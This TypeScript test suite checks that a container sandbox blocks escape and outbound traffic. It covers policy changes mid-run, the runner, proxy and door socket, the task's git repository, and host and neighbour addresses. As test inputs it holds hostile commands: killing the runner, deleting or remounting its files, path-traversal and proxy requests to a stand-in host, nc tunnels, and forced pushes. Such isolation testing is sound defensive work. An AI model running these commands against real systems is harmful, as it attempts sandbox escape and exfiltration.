/**
 * Attempts on what stands inside the sandbox and around it: the runner, the door's socket, the proxy's
 * port, the task's repository, the change of policy while something runs, and the machine's own
 * addresses. What a process inside can do to its own sandbox is harm itself; it must not get out.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:net';
import type { AddressInfo, Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { after, before, describe, test } from 'node:test';
import Docker from 'dockerode';
import type { AccessPolicy } from '../../../protocol/egress.ts';
import type { Hit, Opened, Ran } from './fixture/messages.ts';
import { startFixture } from './fixture/start.ts';
import type { Fixture } from './fixture/start.ts';
import { MARK, OUTSIDE, POLICIES } from './fixture/world.ts';

/** A change of policy cuts what runs; a download that ends by itself would take 15 s. */
const CUT_WITHIN_MS = 5_000;
let fixture: Fixture;

before(async () => {
  fixture = await startFixture();
});
after(async () => fixture?.close());

async function open(
  policy: AccessPolicy,
  phase: 'setup' | 'agent' = 'agent',
): Promise<{ group: string } & Opened> {
  const group = `inside-${randomBytes(4).toString('hex')}`;
  return { group, ...((await fixture.ask({ op: 'open', group, policy, phase })) as Opened) };
}

async function run(group: string, script: string, wants?: string): Promise<Ran> {
  return (await fixture.ask({ op: 'run', group, script, ...(wants === undefined ? {} : { wants }) })) as Ran;
}

/** Until something of this kind has arrived outside. */
async function arrived(from: number, match: (hit: Hit) => boolean): Promise<void> {
  const until = Date.now() + 10_000;
  while (!fixture.hits.slice(from).some(match)) {
    assert.ok(Date.now() < until, 'nothing arrived');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function nothingArrived(from: number): Promise<void> {
  await fixture.settled();
  assert.deepEqual(fixture.hits.slice(from), []);
}

const ASK = `attack say 'GET http://stranger.example/${MARK} HTTP/1.1\\r\\nHost: stranger.example\\r\\n\\r\\n'`;

describe('a change of policy while something runs', () => {
  for (const [what, url, policy] of [
    [
      'a download of the setup is cut when the agent’s policy is off',
      'http://stranger.example/drip',
      POLICIES.off,
    ],
    [
      'a tunnel of the setup is cut when the agent’s policy is off',
      'https://stranger.example/drip',
      POLICIES.off,
    ],
    ['a tunnel to what is no longer listed is cut', 'https://stranger.example/drip', POLICIES.listed],
    ['a tunnel that would have to be looked into is cut', 'https://allowed.example/drip', POLICIES.read],
  ] as const) {
    test(what, async () => {
      const { group } = await open(POLICIES.all, 'setup');
      const from = fixture.hits.length;
      const download = run(group, `curl -sSkN -m 15 ${url}`, 'policyChanged');
      await arrived(from, (hit) => hit.kind === 'request');
      const at = performance.now();
      await fixture.ask({ op: 'phase', group, policy, phase: 'agent' });
      const { exitCode, output, entries } = await download;
      assert.ok(performance.now() - at < CUT_WITHIN_MS, `${performance.now() - at} ms`);
      assert.notEqual(exitCode, 0);
      assert.match(output, new RegExp(OUTSIDE));
      assert.ok(
        entries.some(
          ({ verdict, reason, phase }) =>
            verdict === 'denied' && reason === 'policyChanged' && phase === 'setup',
        ),
      );
      const again = fixture.hits.length;
      const after = await run(group, ASK, policy === POLICIES.off ? 'accessOff' : 'notAllowed');
      assert.ok(
        after.entries.some(({ verdict, phase }) => verdict === 'denied' && phase === 'agent'),
        JSON.stringify(after),
      );
      await nothingArrived(again);
    });
  }

  test('requests that race the change are refused or done before it, and none comes after', async () => {
    const { group } = await open(POLICIES.all, 'setup');
    const from = fixture.hits.length;
    const racing = run(
      group,
      'for n in $(seq 200); do curl -sS -m 2 -o /dev/null http://stranger.example/$n; done',
      'accessOff',
    );
    await arrived(from, (hit) => hit.kind === 'request');
    await fixture.ask({ op: 'phase', group, policy: POLICIES.off, phase: 'agent' });
    await fixture.settled();
    const before = fixture.hits.length;
    const { entries } = await racing;
    await nothingArrived(before);
    assert.ok(entries.some((entry) => entry.reason === 'accessOff'));
  });

  test('a person who turns access off closes the port inside', async () => {
    const { group } = await open(POLICIES.all);
    assert.match((await run(group, ASK, '')).output, new RegExp(OUTSIDE));
    await fixture.ask({ op: 'edit', group, policy: POLICIES.off });
    const from = fixture.hits.length;
    let last = await run(group, ASK);
    for (let tries = 0; tries < 20 && !/refused/i.test(last.output); tries += 1) last = await run(group, ASK);
    assert.match(last.output, /refused/i);
    await nothingArrived(from);
  });
});

describe('the runner and its door', () => {
  test('a runner that is killed takes the way out with it, and comes back without it', async () => {
    const { group } = await open(POLICIES.off);
    const from = fixture.hits.length;
    await assert.rejects(run(group, 'pkill -9 -f runner.cjs; sleep 30'));
    const { how } = (await fixture.ask({ op: 'reopen', group })) as Opened;
    assert.equal(how, 'restarted');
    const { output } = await run(group, ASK);
    assert.match(output, /refused/i);
    await nothingArrived(from);
  });

  test('the runner’s files can’t be replaced', async () => {
    const { group } = await open(POLICIES.off);
    for (const script of [
      'cp /bin/true /opt/codex/tasks/node',
      'mv /opt/codex/tasks /opt/x',
      'mount -t tmpfs none /opt/codex/tasks',
      'mount -o remount,rw /opt/codex/tasks',
      'rm -rf /opt/codex/tasks/runner.cjs',
      'umount /opt/codex/tasks',
    ]) {
      const { exitCode, output } = await run(group, script);
      assert.notEqual(exitCode, 0, `${script}: ${output}`);
    }
  });

  test('a program that takes the proxy’s port first gets nothing out, and keeps others in', async () => {
    const { group } = await open(POLICIES.off);
    const from = fixture.hits.length;
    await run(
      group,
      'setsid nohup python3 -m http.server --bind 127.0.0.2 8080 >/tmp/log 2>&1 & for n in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.2/8080) && break; sleep 0.1; done',
    );
    await fixture.ask({ op: 'edit', group, policy: POLICIES.all });
    const { output, entries } = await run(group, ASK);
    assert.match(output, /HTTP/);
    assert.deepEqual(entries, []);
    await nothingArrived(from);
  });

  for (const [what, generation] of [
    ['the same generation', 1],
    ['a higher generation', 999],
  ] as const) {
    test(`a command that speaks to the door’s socket with ${what} opens a port that leads nowhere`, async () => {
      const { group, container } = await open(POLICIES.off);
      const from = fixture.hits.length;
      // It takes the backend's place: the sandbox is lost to the backend, not the other way round.
      await assert.rejects(
        run(group, `node /usr/local/lib/attack/door.mjs ${generation} >/tmp/door 2>&1; sleep 20`),
      );
      const until = Date.now() + 12_000;
      const read = (): string =>
        execFileSync('docker', ['exec', container, 'cat', '/tmp/door'], { encoding: 'utf8' });
      while (!/502|closed|timeout|\[/.test(read()) && Date.now() < until)
        await new Promise((resolve) => setTimeout(resolve, 250));
      assert.match(read(), /egress 200[^]*502 Bad Gateway/);
      await nothingArrived(from);
    });
  }

  test('a command with a lower generation is refused at the door', async () => {
    const { group } = await open(POLICIES.off);
    assert.match((await run(group, 'node /usr/local/lib/attack/door.mjs 0')).output, /superseded/);
  });
});

describe('the task’s repository', () => {
  test('gives what is the task’s, takes nothing, and has nothing of another task’s', async () => {
    const { group } = await open(POLICIES.off);
    const from = fixture.hits.length;
    const good = await run(group, 'git ls-remote origin && git fetch origin');
    assert.equal(good.exitCode, 0, good.output);
    for (const script of [
      'git push origin HEAD:refs/heads/x',
      'git push --force origin HEAD:main',
      'git fetch origin $OTHER',
      'git fetch http://127.0.0.1:9419/inside-other.git $OTHER',
      'curl -sSf --path-as-is http://127.0.0.1:9419/../../repos/x.git/info/refs?service=git-upload-pack',
      'curl -sSf --path-as-is http://127.0.0.1:9419/project.git/../other.git/info/refs?service=git-upload-pack',
      'curl -sSf http://127.0.0.1:9419/project.git/objects/info/packs',
      'curl -sSf http://127.0.0.1:9419/project.git/config',
      'curl -sSf "http://127.0.0.1:9419/project.git/info/refs?service=git-receive-pack"',
      'curl -sSf -x http://127.0.0.1:9419 http://stranger.example/LEAK',
      'attack tcp 127.0.0.1 9419 && printf "CONNECT stranger.example:443 HTTP/1.1\\r\\n\\r\\n" | nc -w 2 127.0.0.1 9419 | grep -q " 200 "',
    ]) {
      const { exitCode, output } = await run(group, script);
      assert.notEqual(exitCode, 0, `${script}: ${output}`);
    }
    await nothingArrived(from);
  });
});

describe('the machine itself', () => {
  const servers: Server[] = [];
  const came: string[] = [];
  const docker = new Docker();
  let neighbour: Docker.Container | undefined;

  after(async () => {
    for (const server of servers) server.close();
    await neighbour?.remove({ force: true });
  });

  /** A listener on an address of this machine that is proved to work before it is attacked. */
  async function listen(host: string): Promise<number> {
    const server = createServer((socket) => {
      came.push(host);
      socket.on('error', () => {}).destroy();
    });
    servers.push(server);
    server.listen({ host, port: 0 });
    await once(server, 'listening');
    return (server.address() as AddressInfo).port;
  }

  test('neither the bridge’s gateway, nor its loopback, nor a neighbour can be reached', async () => {
    const { group, container } = await open(POLICIES.all);
    const image = (await docker.getContainer(container).inspect()).Image;
    neighbour = await docker.createContainer({
      Image: image,
      Cmd: ['python3', '-m', 'http.server', '80'],
      Entrypoint: [],
      WorkingDir: '/tmp',
    });
    await neighbour.start();
    const network = (await neighbour.inspect()).NetworkSettings.Networks['bridge'];
    assert.ok(network);
    const gateway = network.Gateway;
    const own = Object.values(networkInterfaces()).flatMap(
      (list) => list?.filter((one) => one.family === 'IPv4' && !one.internal).map((one) => one.address) ?? [],
    );
    assert.ok(gateway !== '' && own.includes(gateway), 'the bridge has an address');
    const targets: [string, number][] = [[network.IPAddress, 80]];
    for (const host of new Set([...own, '127.0.0.1'])) targets.push([host, await listen(host)]);
    for (const [host, port] of targets) {
      // The listener answers from here, so a refusal inside is the sandbox's doing.
      await reach(host, port);
      const before = came.length;
      const direct = await run(
        group,
        `attack tcp ${host} ${port} || curl -sSf -m 2 --noproxy '*' http://${host}:${port}/`,
      );
      assert.notEqual(direct.exitCode, 0, direct.output);
      const proxied = await run(
        group,
        `attack say 'GET http://${host}:${port}/${MARK} HTTP/1.1\\r\\nHost: ${host}:${port}\\r\\n\\r\\n'`,
        'ipLiteral',
      );
      assert.ok(
        proxied.entries.some((entry) => entry.reason === 'ipLiteral'),
        proxied.output,
      );
      assert.equal(came.length, before);
    }
    const log = (await neighbour.logs({ stdout: true, stderr: true })).toString();
    assert.ok(!log.includes(MARK) && (log.match(/GET/g)?.length ?? 0) === 1, log);
  });

  async function reach(host: string, port: number): Promise<void> {
    for (let tries = 0; ; tries += 1) {
      const ok = await fetch(`http://${host}:${port}/`).then(
        () => true,
        () =>
          servers.some((server) => (server.address() as AddressInfo).port === port) && came.includes(host),
      );
      if (ok) return;
      assert.ok(tries < 50, `${host}:${port} does not answer`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }
});
